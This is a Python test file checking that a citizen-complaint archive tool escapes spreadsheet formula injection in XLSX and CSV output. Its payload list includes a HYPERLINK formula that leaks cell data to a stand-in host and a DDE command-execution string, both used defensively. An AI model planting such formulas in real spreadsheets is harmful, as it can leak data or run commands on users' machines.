"""Citizens' text in archive results is never a live formula (OWASP CSV injection; XLSX formula cells)."""

import csv
import json
from pathlib import Path

from openpyxl import Workbook, load_workbook

from tests.app.archive.test_archive import sqmy, write_jsonl

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _rows() -> list[dict[str, str]]:
    return [{"id": f"x{n}", "title": payload, "text": f"{payload} 小区路灯坏了一个月", "备注": payload,
             "=列名": "值"} for n, payload in enumerate(PAYLOADS)]


def test_xlsx_result_holds_every_payload_as_text(home, tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl", _rows())
    out = tmp_path / "out.xlsx"
    done = sqmy(home, "batch", src, out, "--quiet")
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the result"
    values = {c.value for c in cells}
    assert set(PAYLOADS) - {"\r=1+1"} <= values  # stored as they came (a CR-led cell is read back without the CR)
    assert "=列名" in values


def test_text_cells_of_an_xlsx_input_stay_text(home, tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["id", "title", "text"])
    for n, payload in enumerate(PAYLOADS[:2]):
        sheet.append([f"x{n}", "标题", "正文"])
        cell = sheet.cell(row=n + 2, column=3, value=payload)
        cell.data_type = "s"  # text in the citizen's file, shown as text by Excel
    workbook.save(tmp_path / "in.xlsx")
    out = tmp_path / "out.xlsx"
    assert sqmy(home, "batch", tmp_path / "in.xlsx", out, "--quiet").returncode == 0
    cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert PAYLOADS[0] in {c.value for c in cells}


def test_csv_result_escapes_formula_triggers(home, tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl", _rows())
    out = tmp_path / "out.csv"
    done = sqmy(home, "batch", src, out, "--quiet")
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    risky = [cell for row in table for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not risky, risky
    assert "'=列名" in table[0]
    assert {f"'{p}" for p in PAYLOADS} <= {cell for row in table[1:] for cell in row}
    assert json.loads(done.stdout)["classified"] == len(PAYLOADS)


def test_jsonl_results_keep_the_text_unchanged(home, tmp_path):
    """Escaping is for spreadsheets only: JSONL (read by programs) keeps the citizen's text as it was."""
    out = tmp_path / "out.jsonl"
    assert sqmy(home, "batch", write_jsonl(tmp_path / "in.jsonl", _rows()), out, "--quiet").returncode == 0
    titles = [json.loads(line)["title"] for line in Path(out).read_text(encoding="utf-8").splitlines()]
    assert titles == PAYLOADS
